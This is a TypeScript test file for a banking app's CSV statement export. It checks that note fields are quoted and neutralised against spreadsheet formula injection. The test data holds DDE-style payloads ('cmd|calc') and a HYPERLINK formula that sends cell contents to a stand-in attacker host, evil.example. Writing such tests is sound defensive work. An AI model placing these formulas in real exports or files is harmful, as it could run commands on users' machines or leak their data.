import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { deposit, withdraw } from '../src/domain/payments.js';
import { adminAndAlice, expectLedgerOk, tempDir } from './helpers.js';

const at = (iso: string) => Date.parse(iso);

describe('statement CSV opened in a spreadsheet', () => {
  it('quotes and neutralises every text cell that could start a formula; amounts stay numbers', async () => {
    const w = await adminAndAlice(at('2026-01-05T09:00:00Z'));
    deposit(w.bank, w.alice, w.savings, '100.00', '-2+3+cmd|calc');
    w.clock.now = at('2026-01-06T09:00:00Z');
    withdraw(w.bank, w.alice, w.savings, '12.50', '=HYPERLINK("http://evil.example/?"&A1,"click")');
    w.clock.now = at('2026-01-07T09:00:00Z');
    deposit(w.bank, w.alice, w.savings, '0.05', '@SUM(1+1)*cmd|calc');
    w.clock.now = at('2026-01-08T09:00:00Z');
    withdraw(w.bank, w.alice, w.savings, '0.05', '+1 555 0100');

    const file = join(tempDir(), 'january.csv');
    const args = ['statement', w.savings, '--month', '2026-01', '--format', 'csv'];
    expect(await w.as('alice', [...args, '-o', file])).toMatchObject({ code: 0, stderr: '' });
    const expected =
      [
        'date,id,type,counterparty,note,amount,balance',
        '2026-01-01,,opening,,,,0.00',
        `2026-01-05T09:00:00.000Z,1,deposit,,"'-2+3+cmd|calc",100.00,100.00`,
        `2026-01-06T09:00:00.000Z,2,withdrawal,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.50,87.50`,
        `2026-01-07T09:00:00.000Z,3,deposit,,"'@SUM(1+1)*cmd|calc",0.05,87.55`,
        `2026-01-08T09:00:00.000Z,4,withdrawal,,"'+1 555 0100",-0.05,87.50`,
        '2026-01-31,,closing,,,,87.50',
      ].join('\r\n') + '\r\n';
    expect(readFileSync(file, 'utf8')).toBe(expected);
    // On stdout the same rows (the bin ends its output with one newline).
    expect((await w.as('alice', args)).stdout).toBe(`${expected.slice(0, -2)}\n`);
    await expectLedgerOk(w.as);
  });
});
